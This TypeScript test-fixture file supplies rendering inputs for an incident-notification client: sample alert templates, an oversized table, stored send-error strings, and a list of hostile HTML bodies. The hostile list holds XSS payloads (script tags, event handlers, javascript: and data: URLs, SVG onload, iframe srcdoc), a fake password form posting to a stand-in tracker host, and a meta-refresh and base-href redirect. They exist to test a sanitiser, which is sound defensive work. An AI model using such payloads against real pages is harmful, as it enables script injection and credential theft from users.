/** Template output for an event: HTML from Markdown, plain text and messenger blocks. */
export const wellBehaved = {
  card: (name: string) => `<h2>${name} fails</h2>
<p><strong>http</strong> of <code>card-authorisation</code> in payments:</p>
<blockquote><p>503 Service Unavailable: upstream connection pool exhausted</p></blockquote>
<ul>
<li>since half an hour</li>
<li><a href="https://web-client.sample.example/health?layout=table&amp;checkName=${name}">Look at it</a></li>
</ul>
<table><thead><tr><th>scheme</th><th>customer facing</th></tr></thead><tbody><tr><td>visa</td><td>true</td></tr></tbody></table>
`,
  html: (name: string, state: string) => `<h3>${name} is ${state}</h3>
<p>The rollout of <code>payments-worker</code> 3.18.2 exhausts the connections of its database.</p>
<pre><code class="language-yaml">env:
  - name: DB_POOL_MAX
    value: "200"
</code></pre>
<p><em>3 of 6</em> replicas are updated. <a href="https://web-client.sample.example/catalog">Catalog</a></p>
`,
  plain: (name: string, state: string) =>
    `${name} is ${state}\n\nReason: Progress deadline exceeded\nLabels: app=${name}, tier=1\nlink: https://web-client.sample.example/catalog`,
  blocks: (name: string, state: string) =>
    JSON.stringify({
      blocks: [
        { type: 'header', text: { type: 'plain_text', text: `${name} is ${state}` } },
        { type: 'section', fields: [{ type: 'mrkdwn', text: '*cluster*: prod-eu-1' }] },
        { type: 'actions', elements: [{ type: 'button', text: { type: 'plain_text', text: 'Silence' } }] },
      ],
    }),
};

const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/**
 * Unsafe bodies. A client must not run scripts, load resources, navigate or change its window. Each body
 * contains the word `harmless`.
 */
export const hostileBodies: readonly string[] = [
  '<p>harmless</p><script>document.title = "owned"</script><scr<script></script>ipt>document.title = "owned"</script>',
  '<p onclick="document.title=\'owned\'" onmouseover=alert(1)>harmless</p><img src=x onerror="document.title=\'owned\'">',
  '<p>harmless <a href="javascript:document.title=\'owned\'">one</a> <a href="JaVa&#x73;cript:alert(1)">two</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">three</a></p>',
  '<style>body, #root { display: none !important } * { background: url(http://tracker.example/css.png) }</style><div style="position:fixed;inset:0;z-index:99999;background:red">harmless</div>',
  '<p>harmless</p><iframe src="http://tracker.example/frame"></iframe><iframe srcdoc="<script>parent.document.title=\'owned\'</script>"></iframe>',
  '<p>harmless</p><svg onload="document.title=\'owned\'"><a xlink:href="javascript:alert(1)"><text y="20">x</text></a><style><img src=http://tracker.example/svg.png onerror=alert(1)></style></svg>',
  '<form action="http://tracker.example/password"><label>harmless <input name="password" type="password" autofocus></label><button formaction="javascript:alert(1)">Sign in again</button></form>',
  `<p>harmless <img alt="inline" src="data:image/png;base64,${pixel}"> <img alt="svg" src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"> <img alt="foreign" src="https://tracker.example/pixel.png"></p>`,
  '<div><table><tr><td><b><i>harmless <a href="https://good.example" title="never closed><p>and <!-- a comment',
  '<meta http-equiv="refresh" content="0;url=http://tracker.example/"><base href="http://tracker.example/"><link rel="stylesheet" href="http://tracker.example/x.css"><p>harmless</p>',
];

/** A table of 200 kB, as a template writes it for a long list. */
export const hugeBody = (): string => {
  const row = (number: number) =>
    `<tr><td>${number}</td><td><code>payments-worker-7d9c6f5b8-${number.toString(36)}</code></td><td>CrashLoopBackOff</td><td>back-off 5m0s restarting failed container</td></tr>`;
  const rows = Array.from({ length: 1_450 }, (_, at) => row(at + 1));
  return `<h2>1,450 pods are not ready</h2><table><tbody>${rows.join('')}</tbody></table>`;
};

const frame = (name: string, line: number) =>
  `  --- at github.com/flanksource/incident-commander/notification/${name}.go:${line}`;

/**
 * Returns the error of a connection as the server stores it: the reason is nested next to the whole message
 * and stack traces, 3 to 6 kB in total.
 */
export function connectionError(reason: string, message: string): string {
  const stacktrace = `Oops: ${reason}\n${Array.from({ length: 24 }, (_, at) => frame(at % 2 === 0 ? 'shoutrrr' : 'send', 40 + at * 7)).join('\n')}`;
  const trace = '01JD3T5S0Z7N8QK2V9X4M6B1CD';
  return JSON.stringify({
    error: { error: reason, hint: message, stacktrace, trace },
    hint: message,
    time: '2024-11-20T10:00:00Z',
    trace,
  });
}

export const sendErrors = {
  connection: connectionError(
    'Post "https://slack.com/api/chat.postMessage": dial tcp: lookup slack.com on 10.96.0.10:53: no such host',
    wellBehaved.blocks('payments-worker', 'unhealthy'),
  ),
  plain: [
    'failed to send notification: opsgenie: Post "https://api.opsgenie.example/v2/alerts": dial tcp 10.12.0.7:443: connect: connection refused',
    'context deadline exceeded',
    'smtp: 535 5.7.8 Error: authentication failed',
  ],
  json: '{"ok":false,"error":"channel_not_found","response_metadata":{"messages":["[ERROR] the channel C0123456789 was archived"],"retry_after":30}}',
  long: `failed to render template: template: payments:14:9: executing "payments" at <index .check.labels "customer-facing">: error calling index: ${'nil data; no entry for key "customer-facing" in map[scheme:visa team:payments tier:1] '.repeat(60)}`,
} as const;
